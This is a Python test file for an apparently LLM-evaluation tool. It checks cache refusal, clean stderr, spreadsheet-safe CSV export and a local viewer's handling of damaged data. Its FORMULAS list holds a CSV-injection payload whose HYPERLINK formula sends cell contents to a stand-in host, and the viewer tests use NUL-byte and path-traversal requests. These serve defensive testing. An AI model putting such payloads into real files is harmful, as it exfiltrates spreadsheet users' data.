"""What a person reads when something is wrong, and what a hostile text cannot do: a broken call cache named
in the preflight, the viewer answering every request with a status, no library warnings on stderr, and
record text that cannot become a spreadsheet formula (items 13, 14, 17, 18).
"""

from __future__ import annotations

import csv
import http.client
import io
import json
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlencode

import pandas as pd
import pytest
from conftest import mini_records, write_pipeline
from fakeserver import TEST_KEY_ENV, FakeLLM
from harness import child, child_env, cli, read_only, refused

from agentjudge import api


def _judge(fake: FakeLLM) -> dict[str, Any]:
    return {
        "model": "openai/test-model",
        "name": "real",
        "api_base": fake.base_url,
        "api_key_env": TEST_KEY_ENV,
    }


# ------------------------------------------------------------------ item 14: the call cache, checked first
def _folder(tmp: Path) -> Path:
    (tmp / "cache-folder").mkdir()
    return tmp / "cache-folder"


def _corrupt(tmp: Path) -> Path:
    path = tmp / "corrupt.sqlite"
    path.write_bytes(b"this is not an SQLite database at all" * 200)
    return path


def _under_a_file(tmp: Path) -> Path:
    (tmp / "a-file").write_text("x")
    return tmp / "a-file" / "calls.sqlite"


@pytest.fixture
def read_only_cache(tmp_path: Path) -> Iterator[Path]:
    with read_only(tmp_path / "ro") as folder:
        yield folder / "calls.sqlite"


@pytest.mark.parametrize(
    "make", [_folder, _corrupt, _under_a_file], ids=["folder", "corrupt", "under-a-file"]
)
def test_run_refuses_an_unusable_call_cache_naming_it(
    tmp_path: Path, fake_llm: FakeLLM, monkeypatch: pytest.MonkeyPatch, make: Callable[[Path], Path]
) -> None:
    fake_llm.set_responder(
        lambda req: json.dumps({m: {"verdict": 1.0} for m in ("tool", "param", "seq", "cov")})
    )
    cache = make(tmp_path)
    monkeypatch.setenv("AGENTJUDGE_CACHE", str(cache))
    pipeline = write_pipeline(tmp_path, judges=[_judge(fake_llm)], cache=None)
    o = cli("run", pipeline, "--out", tmp_path / "run")
    refused(o, "AGENTJUDGE_CACHE", str(cache), max_lines=2)
    assert not (tmp_path / "run").exists()
    assert fake_llm.requests == []


def test_run_refuses_a_read_only_call_cache_naming_it(
    tmp_path: Path, fake_llm: FakeLLM, monkeypatch: pytest.MonkeyPatch, read_only_cache: Path
) -> None:
    monkeypatch.setenv("AGENTJUDGE_CACHE", str(read_only_cache))
    pipeline = write_pipeline(tmp_path, judges=[_judge(fake_llm)], cache=None)
    o = cli("run", pipeline, "--out", tmp_path / "run")
    refused(o, "AGENTJUDGE_CACHE", str(read_only_cache), max_lines=2)
    assert not (tmp_path / "run").exists()


def test_a_pipelines_cache_key_is_named_when_it_is_unusable(tmp_path: Path, fake_llm: FakeLLM) -> None:
    _corrupt(tmp_path)
    pipeline = write_pipeline(tmp_path, judges=[_judge(fake_llm)], cache="corrupt.sqlite")
    o = cli("run", pipeline, "--out", tmp_path / "run")
    refused(o, str(pipeline), "cache", max_lines=2)
    assert fake_llm.requests == []


def test_infer_refuses_an_unusable_call_cache_naming_it(
    tmp_path: Path, fake_llm: FakeLLM, monkeypatch: pytest.MonkeyPatch
) -> None:
    cache = _corrupt(tmp_path)
    monkeypatch.setenv("AGENTJUDGE_CACHE", str(cache))
    monkeypatch.setenv("OPENAI_API_KEY", "sk-test")
    out = tmp_path / "p.jsonl"
    model = ["--generator", "openai/test-model", "--api-base", fake_llm.base_url]
    args = ["infer", mini_records(tmp_path), *model, "--out", out]
    refused(cli(*args), "AGENTJUDGE_CACHE", str(cache), max_lines=2)
    assert not out.exists() and fake_llm.requests == []


# -------------------------------------------------------------- item 17: no library warnings on stderr
def test_wrong_shape_answers_print_no_library_warnings(tmp_path: Path, fake_llm: FakeLLM) -> None:
    """Answers whose fields have the wrong types (a number as the content, a tool call's arguments an
    object): each is a failure counted by reason, and stderr carries none of pydantic's serializer
    warnings."""
    wrong = {"id": "x", "object": "chat.completion", "created": 0, "model": "test-model",
             "choices": [{"index": 0, "finish_reason": "stop",
                          "message": {"role": "assistant", "content": 12345,
                                      "tool_calls": [{"id": "c", "type": "function",
                                                      "function": {"name": "f", "arguments": {"a": 1}}}]}}],
             "usage": {"prompt_tokens": "many", "completion_tokens": 1, "total_tokens": 2}}  # fmt: skip
    fake_llm.set_responder(lambda req: {"body": json.dumps(wrong)})
    judge = _judge(fake_llm) | {"max_retries": 0}
    pipeline = write_pipeline(
        tmp_path, generators=["sim/perfect"], judges=[judge], conditions=["with_gt"], cache=None
    )
    o = child(
        "run", pipeline, "--out", tmp_path / "run", env=child_env(AGENTJUDGE_CACHE=str(tmp_path / "c.sqlite"))
    )
    assert o.code == 1, o.err[-2000:]
    assert "Warning" not in o.err and "Traceback" not in o.err, o.err[-3000:]
    assert fake_llm.requests


# ------------------------------------------------------------- item 18: no formula in the annotators' CSV
FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A2,"open")', "+1+2", "-2+3", "@SUM(A1)"]


def test_human_sample_neutralises_cells_a_spreadsheet_would_run(tmp_path: Path) -> None:
    pipeline = write_pipeline(tmp_path, records=6, difficulties=["easy", "hard"])
    assert api.run(pipeline, tmp_path / "run").exit_code == 0
    records = tmp_path / "records.jsonl"
    lines = records.read_text(encoding="utf-8").splitlines()
    for i, formula in enumerate(FORMULAS):  # after the run: the sample reads the records file again
        row = json.loads(lines[i])
        row["query_hard"] = formula + " " + row["query_hard"]
        lines[i] = json.dumps(row)
    records.write_text("\n".join(lines) + "\n", encoding="utf-8")
    out = tmp_path / "sample.csv"
    assert cli("human-sample", tmp_path / "run", "--n", "12", "--out", out).code == 0
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    queries = [r["query"] for r in rows]
    for formula in FORMULAS:  # kept, as text: a quote in front stops a spreadsheet from running it
        assert any(q.startswith("'" + formula) for q in queries), formula
    for row in rows:
        for column, cell in row.items():
            assert not cell or cell[0] not in "=+-@\t\r", (column, cell[:40])
    # a record's text is stripped when read; a cell can still begin with a tab or a carriage return
    from agentjudge.people.validation import inert

    assert inert("\t=1+1") == "'\t=1+1" and inert("\r@x") == "'\r@x" and inert("a=1") == "a=1"


# ---------------------------------------------------------------- item 13: the viewer always answers
@pytest.fixture
def viewer(fresh_run: Callable[..., Path]) -> Iterator[tuple[str, int, Path]]:
    import pyarrow.parquet as pq

    from agentjudge.viewer.server import start

    run = fresh_run()
    path = run / "predictions.parquet"
    column = pq.read_metadata(path).row_group(0).column(5)  # calls_json: its pages overwritten, footer kept
    assert column.path_in_schema == "calls_json"
    data = bytearray(path.read_bytes())
    start_at = column.data_page_offset + 20
    data[start_at : column.data_page_offset + column.total_compressed_size - 20] = b"\xab" * (
        column.total_compressed_size - 40
    )
    path.write_bytes(bytes(data))
    server, _ = start(run)
    try:
        yield "127.0.0.1", server.server_address[1], run
    finally:
        server.shutdown()
        server.server_close()


def _get(host: str, port: int, path: str) -> tuple[int, dict[str, Any]]:
    conn = http.client.HTTPConnection(host, port, timeout=10)
    try:
        conn.request("GET", path)
        response = conn.getresponse()
        body = response.read()
        return response.status, json.loads(body) if body.startswith(b"{") else {}
    finally:
        conn.close()


@pytest.mark.parametrize("path", ["/report/%00", "/report/a%00b.html", "/report/%2e%2e/%00"])
def test_the_viewer_answers_a_nul_in_a_path_with_400(
    viewer: tuple[str, int, Path], path: str, capfd: pytest.CaptureFixture[str]
) -> None:
    host, port, _ = viewer
    status, body = _get(host, port, path)
    assert status == 400 and "error" in body
    assert "Traceback" not in capfd.readouterr().err


def test_the_viewer_answers_an_item_of_a_damaged_column_with_500_naming_the_file(
    viewer: tuple[str, int, Path], finished_run: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    host, port, _ = viewer
    first = pd.read_parquet(finished_run / "predictions.parquet").iloc[0]
    query = urlencode({"record": first.record_id, "generator": first.generator, "gtrial": first.trial})
    status, body = _get(host, port, f"/api/item?{query}")
    assert status == 500 and "predictions.parquet" in body.get("error", ""), body
    assert "Traceback" not in capfd.readouterr().err
    status, body = _get(host, port, "/api/facets")
    assert status == 200, body  # the server goes on serving
